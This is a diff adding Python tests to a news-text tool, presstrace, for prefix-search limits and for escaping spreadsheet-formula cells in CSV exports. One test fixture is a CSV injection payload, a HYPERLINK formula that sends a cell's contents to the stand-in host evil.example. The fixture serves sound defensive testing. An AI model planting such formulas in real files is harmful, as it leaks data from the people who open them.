@@ -114,6 +114,13 @@ def test_cli_query_language_facets_and_timeline(db, capsys):
     assert main(["--db", db, "search", '"unclosed']) == 2
     err = capsys.readouterr().err
     assert err == "presstrace: unclosed quote (column 1)\n"
+    assert main(["--db", db, "search", "ha*"]) == 2  # a prefix every word could start
+    assert "ha* is too short a prefix" in capsys.readouterr().err
+    assert main(["--db", db, "search", "har*", "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["total"] == 3
+    client = TestClient(create_app(db), base_url="http://127.0.0.1")
+    refused = client.get("/api/search", params={"q": "ha*"})
+    assert refused.status_code == 422 and "too short a prefix" in refused.text
     assert main(["--db", db, "timeline", "harbour", "--compare", "mayor", "--by", "day",
                  "--json"]) == 0  # fmt: skip
     found = json.loads(capsys.readouterr().out)
@@ -124,3 +131,45 @@ def test_cli_query_language_facets_and_timeline(db, capsys):
     out = capsys.readouterr().out
     assert "A: harbour: 3 documents" in out and "B: mayor: 1 document" in out
     assert main(["--db", db, "timeline", "harbour", "--story", "x"]) == 2
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, capsys):
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a
+    leading single quote in every CSV (CLI export, /api/export, one table); JSONL keeps it."""
+    import csv
+    import io
+
+    from presstrace.exports import stream_table, write_table
+    from presstrace.store.queries.tables import TABLES
+
+    path = str(tmp_path / "f.db")
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    text = "-2+3 said the harbour master"
+    digest = hashlib.sha256(text.encode()).hexdigest()
+    doc = Document(id=digest, source="f.txt", title=title, text=text, outlet="@outlet",
+                   language="en", published=Published(date="2024-03-04"))  # fmt: skip
+    store = open_store(path)
+    store.add_batch([(RawDocument(id=digest, source="f.txt", content=text), doc)])
+    store.close()
+    out = tmp_path / "f.csv"
+    assert main(["--db", path, "export", "--format", "csv", "-o", str(out)]) == 0
+    (row,) = csv.DictReader(io.StringIO(out.read_text()))
+    assert (row["title"], row["text"], row["outlet"]) == ("'" + title, "'" + text, "'@outlet")
+    assert row["language"] == "en" and row["published"] == "2024-03-04"
+    client = TestClient(create_app(path), base_url="http://127.0.0.1")
+    (api_row,) = csv.DictReader(io.StringIO(client.get("/api/export?format=csv").text))
+    assert api_row == row
+    (record,) = client.get("/api/export?format=json").json()
+    assert record["title"] == title and record["text"] == text  # JSON keeps the text as is
+    quote = {"doc_id": digest, "n": 0, "speaker": "\tTab", "text": "+1 for the bridge",
+             "direct": True, "cue": "\rsaid", "confidence": -0.5, "start": 0, "end": 4,
+             "title": "plain"}  # fmt: skip
+    columns = TABLES["quotes"].columns
+    written = io.StringIO()
+    assert write_table([quote], columns, "csv", written) == 1
+    streamed = "".join(stream_table([quote], columns, "csv"))
+    for body in (written.getvalue(), streamed):
+        (cells,) = csv.DictReader(io.StringIO(body))
+        assert cells["speaker"] == "'\tTab" and cells["text"] == "'+1 for the bridge"
+        assert cells["cue"] == "'\rsaid" and cells["title"] == "plain"
+        assert cells["confidence"] == "-0.5"  # a number stays a number
